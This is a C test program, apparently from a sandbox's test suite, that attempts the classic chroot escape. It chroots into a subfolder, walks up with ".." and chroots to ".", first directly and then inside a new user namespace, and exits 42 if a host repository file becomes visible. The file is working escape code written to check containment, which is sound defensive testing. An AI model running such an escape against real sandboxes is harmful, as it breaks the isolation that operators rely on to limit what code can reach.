/* Attack: the classic chroot escape: chroot into a subfolder while keeping
 * the current folder outside it, walk up with "..", chroot(".") again;
 * tried directly, then as root of a new user namespace (which grants
 * CAP_SYS_CHROOT there). After a pivot_root sandbox this would reach the
 * host's real root.
 * Success: the chroot() calls succeeded and the host's repository
 * (@REPO_DIR@/Cargo.toml) is visible afterwards: exit 42. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int escape(void) {
    mkdir("jail", 0700);
    if (chroot("jail") != 0) return 0;
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) return 0;
    return access("@REPO_DIR@/Cargo.toml", F_OK) == 0;
}

int main(void) {
    pid_t p = fork();
    if (p == 0) _exit(escape() ? 42 : 0);
    int st = 0;
    waitpid(p, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 42) return 42;
    p = fork();
    if (p == 0) _exit(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && escape() ? 42 : 0);
    waitpid(p, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 42) return 42;
    puts("-1");
    return 0;
}
